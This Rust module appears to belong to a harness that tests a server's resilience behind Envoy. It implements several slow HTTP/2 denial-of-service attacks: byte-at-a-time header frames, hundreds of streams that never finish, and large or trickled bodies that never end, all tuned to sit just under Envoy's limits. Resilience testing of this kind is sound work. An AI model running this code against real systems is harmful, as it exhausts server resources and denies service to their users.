//! Calls that never come to their end.

use std::io;
use std::time::Duration;

use super::{CREATE, REFLECT, Scene, call};
use crate::attacks::connection::Connection;
use crate::attacks::frames::{Frames, flag, kind, literals};
use crate::attacks::got::Got;
use crate::wait;

const CONNECTIONS: usize = 200;
const CALLERS: usize = 10;
/// A little under what a connection may have.
const STREAMS: u32 = 250;
const PAUSE: Duration = Duration::from_millis(200);
/// Connections whose calls together bring most of what Envoy may hold.
const CROWD: usize = 100;
/// As much as Envoy's limits let one call have: of headers, and of a message before its end.
const HEADER: usize = 7_000;
const PART: usize = 4_000;

/// One frame, which holds all of them.
pub(super) fn headers(scene: &Scene) -> io::Result<Got> {
    let block = literals(&call(CREATE));
    slowly(scene, CONNECTIONS, 1, |round, stream| match round {
        0 => Frames::default().begin(kind::HEADERS, flag::END_HEADERS, stream, block.len()),
        _ => block.get(round - 1..round).map_or_else(Frames::default, |byte| Frames::default().more(byte)),
    })
}

/// Streams whose answers come before their end, and that wait for more.
pub(super) fn streams(scene: &Scene) -> io::Result<Got> {
    slowly(scene, CALLERS, STREAMS, |round, stream| match round {
        0 => Frames::default().headers(stream, &call(REFLECT), 0),
        _ => Frames::default(),
    })
}

/// As many calls as there is time for, each with large headers and all of its message but the end.
pub(super) fn large_bodies(scene: &Scene) -> io::Result<Got> {
    let large = "v".repeat(HEADER);
    let headers = [&call(CREATE)[..], &[("x-large", large.as_str())]].concat();
    let part = [&[0, 0, 0, 0x0f, 0xff][..], &[b'a'; PART]].concat();
    let (mut all, mut got) = (Vec::new(), Got::default());
    while !scene.is_over() {
        if all.len() == CROWD {
            wait::rest(PAUSE.min(scene.left()));
            continue;
        }
        let mut connection = Connection::open(scene.address)?;
        for _ in 0..STREAMS {
            let stream = connection.next_stream();
            connection.send(&Frames::default().headers(stream, &headers, 0));
            connection.upload(stream, &part, 0, scene.left());
            got.count("calls");
        }
        all.push(connection);
    }
    for connection in &mut all {
        connection.hear();
        got.add(&connection.got);
    }
    Ok(got)
}

pub(super) fn bodies(scene: &Scene) -> io::Result<Got> {
    slowly(scene, CALLERS, STREAMS, |round, stream| match round {
        0 => Frames::default().headers(stream, &call(CREATE), 0),
        // The head of a message of 16,000 bytes, and those.
        1 => Frames::default().frame(kind::DATA, 0, stream, &[0, 0, 0, 0x3e, 0x80]),
        _ => Frames::default().frame(kind::DATA, 0, stream, b"a"),
    })
}

fn slowly(scene: &Scene, connections: usize, streams: u32, part: impl Fn(usize, u32) -> Frames) -> io::Result<Got> {
    let opened = (0..connections).map(|_| Connection::open(scene.address));
    let mut all = opened.collect::<io::Result<Vec<_>>>()?;
    let mut got = Got::default();
    got.count_many("calls", connections as u64 * u64::from(streams));
    for round in 0.. {
        if scene.is_over() {
            break;
        }
        for connection in all.iter_mut().filter(|connection| connection.is_open()) {
            let frames =
                (0..streams).fold(Frames::default(), |frames, number| frames.then(&part(round, 2 * number + 1)));
            connection.send(&frames);
        }
        wait::rest(PAUSE.min(scene.left()));
    }
    for connection in &mut all {
        connection.hear();
        let left = u64::from(streams).saturating_sub(connection.ended) * u64::from(connection.is_open());
        got.count_many("kept to the end", left);
        got.add(&connection.got);
    }
    Ok(got)
}
